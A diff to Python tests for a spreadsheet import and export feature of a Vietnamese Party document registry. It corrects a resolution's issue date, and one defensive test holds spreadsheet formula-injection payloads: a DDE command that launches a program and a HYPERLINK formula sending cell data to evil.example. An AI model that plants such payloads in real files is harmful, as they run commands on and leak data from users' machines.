@@ -31,7 +31,7 @@ ROWS = [
     [
         "Nghị quyết",
         "35-NQ/TW",
-        "20/10/2018",
+        "22/10/2018",
         "Bảo vệ nền tảng tư tưởng của Đảng",
         "TW",
         "XII",
@@ -76,7 +76,7 @@ def test_a_list_is_imported_and_importing_it_again_changes_nothing(world: World)
     assert Document.objects.count() == 4
     resolution = Document.objects.get(symbol="35-NQ/TW")
     assert (resolution.issued_on, resolution.term, resolution.is_public) == (
-        dt.date(2018, 10, 20),
+        dt.date(2018, 10, 22),
         "XII",
         True,
     )
@@ -136,7 +136,7 @@ def test_every_bad_row_is_reported_by_row_and_column_and_nothing_is_written(worl
 def test_a_commune_cannot_import_documents_of_a_sibling_or_of_the_centre(world: World) -> None:
     rows = [
         ["Kế hoạch", "05-KH/ĐU", "01/02/2024", "", "XA", "", "", ""],
-        ["Nghị quyết", "35-NQ/TW", "20/10/2018", "", "TW", "", "", "Có"],
+        ["Nghị quyết", "35-NQ/TW", "22/10/2018", "", "TW", "", "", "Có"],
     ]
     response = upload(world, xlsx(rows), user=world.charlie)
     assert response.status_code == 400
@@ -156,7 +156,7 @@ def test_files_that_are_not_spreadsheets_are_refused(world: World) -> None:
 
 
 def test_the_export_reimports_to_the_same_registry(world: World) -> None:
-    central("35-NQ/TW", "Nghị quyết", dt.date(2018, 10, 20), subject="Bảo vệ nền tảng", term="XII")
+    central("35-NQ/TW", "Nghị quyết", dt.date(2018, 10, 22), subject="Bảo vệ nền tảng", term="XII")
     central("21-HD/BTCTW", "Hướng dẫn")
     make_document(
         "15-KH/TU", "Kế hoạch", dt.date(2019, 1, 14), issuing_unit=world.province, status="replaced"
@@ -169,7 +169,7 @@ def test_the_export_reimports_to_the_same_registry(world: World) -> None:
     assert [
         "Nghị quyết",
         "35-NQ/TW",
-        "20/10/2018",
+        "22/10/2018",
         "Bảo vệ nền tảng",
         "TW",
         "XII",
@@ -200,7 +200,7 @@ def test_the_export_holds_only_what_the_user_may_see(world: World) -> None:
 
 
 def test_the_export_writes_subjects_and_symbols_that_look_like_formulas_as_text(world: World) -> None:
-    document = central("35-NQ/TW", "Nghị quyết", dt.date(2018, 10, 20), subject="Bảo vệ nền tảng")
+    document = central("35-NQ/TW", "Nghị quyết", dt.date(2018, 10, 22), subject="Bảo vệ nền tảng")
     # As a path with fewer checks could have stored them; U+0001 once made the export answer 500.
     Document.objects.filter(pk=document.pk).update(
         symbol="=cmd|' /C calc'!A0", subject='=HYPERLINK("http://evil.example/?u="&A5,"x")\x01', term="+1"
